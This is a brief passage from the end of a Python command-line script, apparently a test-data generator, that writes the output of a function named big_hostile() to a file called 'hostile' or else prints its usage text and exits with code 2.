        write_all(os.path.join(argv[2], "hostile"), big_hostile())
    else:
        sys.stderr.write(__doc__)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
